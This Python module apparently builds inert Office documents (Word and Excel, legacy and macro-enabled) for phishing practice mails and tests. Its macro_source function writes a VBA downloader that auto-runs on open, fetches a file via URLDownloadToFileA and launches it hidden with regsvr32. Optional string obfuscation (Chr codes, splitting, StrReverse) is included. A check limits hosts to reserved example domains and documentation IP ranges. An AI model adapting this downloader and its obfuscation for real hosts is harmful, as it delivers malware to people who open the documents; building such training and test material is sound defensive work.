"""Build inert Office documents in memory, for the practice mails and the tests. Nothing is stored, nothing runs.

A macro built here names only reserved hosts (RFC 2606, RFC 5737, RFC 3849), so that even a program that ran it would
reach nobody. Equal arguments give equal bytes. Containers follow [MS-CFB], [MS-DOC] 2.5.1 and 2.8.35, [MS-OVBA] and
ECMA-376.
"""

import io
import struct
import zipfile
from collections.abc import Mapping
from enum import StrEnum
from ipaddress import ip_address, ip_network
from urllib.parse import urlsplit
from uuid import UUID
from xml.sax.saxutils import escape

from seriema.exercise.compound_file import compound_file
from seriema.exercise.vba_project import vba_project

RESERVED_SUFFIXES = (".test", ".example", ".invalid", ".example.com", ".example.net", ".example.org")
RESERVED_NETWORKS = tuple(map(ip_network, ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")))
WORD_ID = UUID("00020906-0000-0000-c000-000000000046")
_PROJECT_TYPE = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
EXCEL_ID = UUID("00020820-0000-0000-c000-000000000046")


class Spelling(StrEnum):
    """How the macro writes its texts."""

    PLAIN = "plain"
    JOINED = "joined"  #: "ht" & "tp" …
    CHR = "chr"  #: Chr(104) & Chr(116) …
    REVERSED = "reversed"  #: StrReverse("…ptth")


def macro_source(url: str, path: str, spelling: Spelling = Spelling.PLAIN, entry: str = "AutoOpen") -> dict[str, str]:
    """Modules of a downloader in the shape of July 2020: ``entry`` saves ``url`` as ``path`` and hands it to regsvr32.

    Raises ``ValueError`` when the host of ``url`` is not a reserved one.
    """
    if not _reserved(urlsplit(url).hostname or ""):
        raise ValueError(f"{url} names a host that is not reserved for examples")
    source = f"""Option Explicit
Private Declare PtrSafe Function fetch Lib "urlmon" Alias "URLDownloadToFileA" _
    (ByVal caller As LongPtr, ByVal address As String, ByVal file As String, _
    ByVal reserved As Long, ByVal callback As LongPtr) As Long

Public Function address() As String
    address = {_spelled(url, spelling)}
End Function

Sub {entry}()
    Dim target As String
    target = {_spelled(path, spelling)}
    If fetch(0, address(), target, 0, 0) = 0 Then
        Shell {_spelled("regsvr32.exe -s " + path, spelling)}, vbHide
    End If
End Sub
"""
    return {"ThisDocument": "Attribute VB_PredeclaredId = True", "Module1": source}


def _reserved(host: str) -> bool:
    try:
        address = ip_address(host)
    except ValueError:
        return f".{host}".endswith(RESERVED_SUFFIXES)
    return any(address in network for network in RESERVED_NETWORKS)


def _spelled(text: str, spelling: Spelling) -> str:
    """A VBA expression for ``text``."""
    pieces = [text[start : start + 7] for start in range(0, len(text), 7)]
    return {
        Spelling.PLAIN: lambda: _literal(text),
        Spelling.JOINED: lambda: " & ".join(map(_literal, pieces)),
        Spelling.CHR: lambda: " & ".join(f"Chr({ord(character)})" for character in text),
        Spelling.REVERSED: lambda: f"StrReverse({_literal(text[::-1])})",
    }[spelling]()


def _literal(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def doc_with_macro(source: Mapping[str, str], text: str, cache: bytes = b"") -> bytes:
    """A Word 97–2003 document with that body ``text`` and macro ``source`` by module name.

    ``cache`` stands before each module's source, where the editor keeps p-code.
    """
    document, table = _word_streams(text)
    project = {f"Macros/{path}": content for path, content in vba_project(source, cache).items()}
    return compound_file({"WordDocument": document, "1Table": table, **project}, {"": WORD_ID})


def xls_with_macro(source: Mapping[str, str], cache: bytes = b"") -> bytes:
    """An Excel 97–2003 workbook without sheets of interest and with that macro ``source``."""
    start = struct.pack("<HHHHHHII", 0x809, 16, 0x600, 5, 0x0DBB, 0x07CC, 0, 6)
    project = {f"_VBA_PROJECT_CUR/{path}": content for path, content in vba_project(source, cache).items()}
    return compound_file({"Workbook": start + struct.pack("<HH", 0x0A, 0), **project}, {"": EXCEL_ID})


def docm_with_macro(source: Mapping[str, str], text: str, cache: bytes = b"") -> bytes:
    """A macro-enabled Word document (ECMA-376) with that body ``text`` and macro ``source``."""
    project = compound_file(vba_project(source, cache))
    return _package("word", "application/vnd.ms-word.document.macroEnabled.main+xml", _word_body(text), project)


def docx(text: str) -> bytes:
    """A plain Word document (ECMA-376); paragraphs are separated by newlines."""
    content_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return _package("word", content_type, _word_body(text))


def xlsm_with_macro(source: Mapping[str, str], cache: bytes = b"") -> bytes:
    """A macro-enabled workbook (ECMA-376) without sheets and with that macro ``source``."""
    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    body = f'<workbook xmlns="{namespace}"><sheets/></workbook>'
    project = compound_file(vba_project(source, cache))
    return _package("xl", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", body, project)


def _word_streams(text: str) -> tuple[bytes, bytes]:
    """WordDocument and 1Table: the file information block ([MS-DOC] 2.5.1), the text, and one piece that names it."""
    characters = text.replace("\n", "\r") + "\r"
    encoded = characters.encode("utf-16-le")
    length, begins = len(encoded) // 2, 1024
    pieces = struct.pack("<II", 0, length) + struct.pack("<HIH", 0, begins, 0)
    table = b"\x02" + struct.pack("<I", len(pieces)) + pieces
    block = bytearray(begins)
    struct.pack_into("<HHHHHH", block, 0, 0xA5EC, 0xC1, 0, 0x409, 0, 0x0200)
    struct.pack_into("<HII", block, 0x12, 0, begins, begins + len(encoded))
    struct.pack_into("<H", block, 0x20, 14)
    struct.pack_into("<HII", block, 0x3E, 22, begins + len(encoded), 0)
    struct.pack_into("<I", block, 0x4C, length)
    struct.pack_into("<H", block, 0x98, 93)
    struct.pack_into("<II", block, 0x1A2, 0, len(table))
    return bytes(block) + encoded, table


def _word_body(text: str) -> str:
    namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    lines = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>' for line in text.split("\n")
    )
    return f'<w:document xmlns:w="{namespace}"><w:body>{lines}</w:body></w:document>'


def _package(folder: str, content_type: str, body: str, project: bytes | None = None) -> bytes:
    """An Open Packaging Conventions ZIP with one main part, and a macro project when there is one."""
    main = {"word": "document.xml", "xl": "workbook.xml"}[folder]
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{_PROJECT_TYPE if project is not None else ''}"
        f'<Override PartName="/{folder}/{main}" ContentType="{content_type}"/></Types>'
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    macros = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": types,
        "_rels/.rels": _relationships(office, f"{folder}/{main}"),
        f"{folder}/{main}": body,
    }
    if project is not None:
        parts[f"{folder}/_rels/{main}.rels"] = _relationships(macros, "vbaProject.bin")
        parts[f"{folder}/vbaProject.bin"] = project
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        for name, content in parts.items():
            member = zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            package.writestr(member, _declared(content), zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _declared(content: str | bytes) -> str | bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{content}' if isinstance(content, str) else content
    )


def _relationships(kind: str, target: str) -> str:
    namespace = "http://schemas.openxmlformats.org/package/2006/relationships"
    return (
        f'<Relationships xmlns="{namespace}"><Relationship Id="rId1" Type="{kind}" Target="{target}"/></Relationships>'
    )
